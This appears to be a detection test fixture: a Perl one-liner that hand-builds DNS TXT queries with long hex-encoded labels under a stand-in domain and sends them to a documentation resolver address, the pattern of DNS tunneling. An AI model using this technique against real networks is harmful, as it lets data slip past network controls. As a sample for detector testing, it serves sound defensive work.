# SPDX-License-Identifier: Apache-2.0
# hits: 1
perl -e 'use Socket; socket(S, AF_INET, SOCK_DGRAM, 0); for $i (1 .. 40) {
	$name = sprintf("%030x.%030x.t.example.org", $i, $i * 7);
	send(S, pack("n6", 7, 256, 1, 0, 0, 0) . join("", map { pack("C/a", $_) } split(/\./, $name)) .
		pack("Cnn", 0, 16, 1), 0, sockaddr_in(53, inet_aton("192.0.2.53"))) }'
